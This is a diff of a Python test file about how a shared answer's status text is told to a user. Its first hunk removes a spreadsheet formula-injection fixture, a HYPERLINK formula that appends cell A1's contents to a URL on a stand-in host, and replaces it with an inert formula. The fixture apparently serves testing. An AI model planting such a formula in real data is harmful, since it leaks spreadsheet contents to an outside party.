@@ -9,7 +9,7 @@ import json
 from kit.releases import read_releases
 from tests.live.serving import serving
 
-FORMULA = '=HYPERLINK("http://x.example/?"&A1,"look")'
+FORMULA = '=LOOK(me,"up")'
 
 
 def told(client) -> dict[str, str]:
@@ -23,7 +23,7 @@ def test_what_became_of_an_answer_is_told_in_words_and_changes_with_the_reveal_a
     mine.put({"energy": 7, "note": "hello"})
     waiting = told(mine)
     assert waiting["energy"].startswith("Waits, unseen.")
-    assert waiting["note"].startswith("Words of your own.")
+    assert waiting["note"].startswith("A text that you shared. It waits")
     for _ in range(6):
         served.joined().put({"energy": 3})
         assert told(mine) == waiting
